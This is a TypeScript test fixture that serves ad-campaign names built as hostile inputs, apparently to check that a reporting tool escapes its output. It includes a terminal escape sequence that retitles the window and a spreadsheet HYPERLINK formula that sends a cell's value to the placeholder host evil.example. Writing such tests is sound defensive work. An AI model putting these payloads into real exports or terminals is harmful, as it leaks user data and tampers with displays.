/**
 * A service whose campaign names are what an advertiser might type: terminal control sequences, a
 * spreadsheet formula, tabs, line breaks, a backslash, a leading minus, non-ASCII. Loaded and keyed through
 * the `serve` operator commands (in this process), served by a real server on 127.0.0.1.
 */
import { serveLinesWithKey } from "./serve";

export const ESC = "\u001b";
export const BEL = "\u0007";
export const NAMES = {
  1: `${ESC}[31mRED${ESC}[0m${ESC}]0;pwned-title${BEL}`,
  2: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  3: "tab\tinside, line\nbreak, cr\rhere, back\\slash",
  4: "-20% sale",
  5: "Été 🌞 plain",
} as const;
/** Campaign n has one ad, 10 n. */
const AD_OF_CAMPAIGN = { 1: 10, 2: 20, 3: 30, 4: 40, 5: 50 } as const;

/** Starts the service; its one key belongs to Acme Outdoor and works from 127.0.0.1. */
export function startNamesService(): Promise<{ url: string; key: string }> {
  return serveLinesWithKey(
    "formats",
    Object.entries(NAMES).map(([id, name]) => ({
      advertiser: "Acme Outdoor",
      campaign_id: Number(id),
      campaign: name,
      ad_id: AD_OF_CAMPAIGN[Number(id) as keyof typeof AD_OF_CAMPAIGN],
      ad: `ad ${id}`,
      hour: "2026-10-05T13:00:00Z",
      views: 100 * Number(id),
      clicks: Number(id),
      bot_clicks: 0,
      spending: Number(id) + 0.25,
      conversions: 1,
    })),
  );
}
